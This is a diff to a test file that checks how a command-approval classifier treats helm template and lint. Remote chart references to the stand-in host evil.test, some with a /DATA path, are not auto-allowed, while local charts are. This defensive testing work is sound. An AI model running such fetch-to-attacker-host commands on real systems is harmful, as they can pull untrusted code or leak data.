@@ -227,7 +227,15 @@ describe("helm show / inspect: a local chart's files are printed, a remote one i
       "helm show values oci://evil.test/DATA": "fallthrough",
       "helm inspect values https://evil.test/a.tgz": "fallthrough",
       "helm show chart s3://bucket/c": "fallthrough",
+      // template / lint: --repo and scheme references fetch too (schema validation off or not)
+      "helm template x mychart --repo https://evil.test/DATA --skip-schema-validation": "fallthrough",
+      "helm template x mychart --repo=https://evil.test --skip-schema-validation": "fallthrough",
+      "helm template oci://evil.test/c --skip-schema-validation": "fallthrough",
+      "helm template x https://evil.test/c.tgz --skip-schema-validation": "fallthrough",
+      "helm lint oci://evil.test/c --skip-schema-validation": "fallthrough",
       // controls
+      "helm template ./ok": "allow",
+      "helm lint ./ok": "allow",
       "helm show values ./ok": "allow",
       "helm show all ok": "allow",
       "helm show values bitnami/nginx": "allow",
